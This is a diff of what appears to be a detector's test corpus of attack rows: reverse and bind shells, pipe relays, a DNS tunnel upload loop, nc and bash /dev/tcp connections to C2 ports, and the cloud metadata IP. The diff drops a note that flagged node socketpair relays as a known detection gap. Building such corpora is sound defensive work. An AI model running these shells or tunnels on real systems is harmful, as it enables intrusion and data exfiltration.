@@ -252,10 +252,6 @@ require("net").createServer((c) => { c.pipe(p.stdin); p.stdout.pipe(c); }).liste
 
 const METADATA = '169.254.169.254';
 
-const NODE_STDIO_GAP =
-  "node's child_process 'pipe' stdio are unix socketpairs, not pipes: the relay check follows " +
-  'pipes, fifos and ptys only, so the shell is never linked to the socket holder';
-
 /** Twelve random 24-byte hex labels under `domain`, the shape of a DNS tunnel's upload. */
 const DIG_TUNNEL = (domain: string) =>
   `for i in $(seq 12); do dig +short +time=1 +tries=1 ` +
@@ -320,10 +316,7 @@ export const ATTACK_CORPUS: readonly AttackRow[] = [
   // Relays: the shell's stdio are pipes, a pty or a fifo fed by the socket holder.
   shell('pipe-relay', 'python pipe relay', 'python3', PY_PIPE_RELAY),
   shell('pipe-relay', 'perl pipe relay', 'perl', PERL_PIPE_RELAY),
-  {
-    ...shell('pipe-relay', 'node pipe relay', 'node', NODE_PIPE_RELAY),
-    gap: NODE_STDIO_GAP,
-  },
+  shell('pipe-relay', 'node pipe relay', 'node', NODE_PIPE_RELAY),
   shell(
     'pipe-relay',
     'bash cat relay around sh',
@@ -378,7 +371,7 @@ export const ATTACK_CORPUS: readonly AttackRow[] = [
   ),
   shell('bind-shell', 'python listener feeding sh', 'python3', PY_BIND),
   shell('bind-shell', 'perl listener feeding sh', 'perl', PERL_BIND),
-  { ...shell('bind-shell', 'node listener feeding sh', 'node', NODE_BIND), gap: NODE_STDIO_GAP },
+  shell('bind-shell', 'node listener feeding sh', 'node', NODE_BIND),
   // C2 ports on the gateway, seen in the kernel log of coi's rules.
   network('c2-port', 'nc to 4444', 'sh', (t) => connect('sh', t.gateway, 4444)),
   network('c2-port', 'bash /dev/tcp to 5555', 'bash', (t) => connect('bash', t.gateway, 5555)),
